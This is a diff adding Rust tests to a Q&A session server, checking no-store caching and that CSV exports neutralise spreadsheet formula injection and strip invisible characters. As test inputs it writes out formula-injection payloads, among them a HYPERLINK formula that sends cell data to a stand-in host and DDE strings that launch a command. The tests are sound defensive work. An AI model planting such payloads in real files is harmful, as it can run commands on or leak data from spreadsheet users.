@@ -285,6 +285,135 @@ fn header<'a>(headers: &'a [(String, String)], name: &str) -> Option<&'a str> {
         .map(|(_, v)| v.as_str())
 }
 
+/// Answers with keys or questions are never cached (`Cache-Control: no-store`), and only the
+/// pages' own files are served from /assets/ (not the README of web/).
+#[tokio::test]
+async fn answers_with_keys_or_questions_are_not_stored_and_only_page_files_are_served() {
+    let server = TestServer::start();
+    let s = server.demo_session().await;
+    let body = r#"{"title":"Sesi uji cache"}"#;
+    let created = http(
+        "POST",
+        &server.http("/api/sessions"),
+        Some(ADMIN),
+        Some(body),
+    )
+    .await;
+    let overlay_key = s.overlay.clone();
+    let answers = [
+        ("POST /api/sessions", created),
+        (
+            "GET /api/sessions",
+            http("GET", &server.http("/api/sessions"), Some(ADMIN), None).await,
+        ),
+        ("export json", export(&server, &s, "", Some(ADMIN)).await),
+        (
+            "export csv",
+            export(&server, &s, "?format=csv", Some(ADMIN)).await,
+        ),
+        (
+            "live.json",
+            http(
+                "GET",
+                &server.http(&format!("/api/sessions/{}/live.json?k={overlay_key}", s.id)),
+                None,
+                None,
+            )
+            .await,
+        ),
+    ];
+    for (what, (st, headers, body)) in &answers {
+        assert!((200..300).contains(st), "{what}: {st} {body}");
+        assert_eq!(header(headers, "cache-control"), Some("no-store"), "{what}");
+    }
+    let (st, _, _) = http("GET", &server.http("/assets/README.md"), None, None).await;
+    assert_eq!(st, 404, "the README of web/ is not a page file");
+    for f in [
+        "/assets/shared/client.js",
+        "/assets/shared/ui.css",
+        "/assets/shared/icon.svg",
+    ] {
+        let (st, _, _) = http("GET", &server.http(f), None, None).await;
+        assert_eq!(st, 200, "{f}");
+    }
+}
+
+/// A spreadsheet never runs a cell of the export: text cells that start with `=`, `+`, `-`
+/// or `@` come out with a leading `'` in the CSV (JSON keeps the text as it is), and what a
+/// person cannot see (bidi overrides, zero-width and control characters) is never stored.
+#[tokio::test]
+async fn the_csv_export_runs_no_formula_and_invisible_characters_are_not_stored() {
+    let server = TestServer::start_with(&[("TANYA_ASKS_PER_MINUTE", "100")]);
+    let s = server.demo_session().await;
+    let mut m = Client::moderator(&server, &s).await;
+    let mut a = Client::audience(&server, &s).await;
+    let formulas = [
+        r#"=HYPERLINK("http://contoh.invalid/?"&B2,"klik")"#,
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ];
+    let mut ids = Vec::new();
+    for (i, f) in formulas.iter().enumerate() {
+        let v = a
+            .ok(json!({"type":"ask","ref":format!("f{i}"),"text":f,"name":"=1+1"}))
+            .await;
+        assert_eq!(v["question"]["text"], *f, "stored as asked");
+        ids.push(v["question"]["id"].as_str().unwrap().to_string());
+    }
+    // Invisible characters: gone before the length check and the flags.
+    let v = a
+        .ok(json!({"type":"ask","ref":"bidi","text":"Jalan\u{202E}kosong\u{200B} an\u{200D}jing\u{0}","name":"\u{2066}Sari\u{2069}"}))
+        .await;
+    assert_eq!(v["question"]["text"], "Jalankosong anjing");
+    assert_eq!(v["question"]["name"], "Sari");
+    let id = v["question"]["id"].as_str().unwrap().to_string();
+    let welcome = Client::moderator(&server, &s).await;
+    let q = welcome.welcome["questions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|q| q["id"] == json!(id))
+        .unwrap()
+        .clone();
+    assert_eq!(
+        q["flags"],
+        json!(["profanity"]),
+        "flagged once cleaned: {q}"
+    );
+    let _ = m.call(json!({"type":"approve","question":id})).await;
+
+    let (st, _, body) = export(&server, &s, "?format=csv", Some(ADMIN)).await;
+    assert_eq!(st, 200, "{body}");
+    let mut r = csv::ReaderBuilder::new()
+        .has_headers(true)
+        .from_reader(body.as_bytes());
+    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+    for (f, id) in formulas.iter().zip(&ids) {
+        let row = rows.iter().find(|r| r.get(0) == Some(id.as_str())).unwrap();
+        assert_eq!(row.get(9), Some(format!("'{f}").as_str()), "text of {id}");
+        assert_eq!(row.get(6), Some("'=1+1"), "name of {id}");
+    }
+    for row in &rows {
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+    }
+    let (_, _, json_body) = export(&server, &s, "", Some(ADMIN)).await;
+    let v: Value = serde_json::from_str(&json_body).unwrap();
+    assert!(
+        v["questions"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|q| q["text"] == formulas[0]),
+        "JSON keeps the text as it is"
+    );
+}
+
 #[tokio::test]
 async fn export_json_and_csv() {
     let server = TestServer::start();
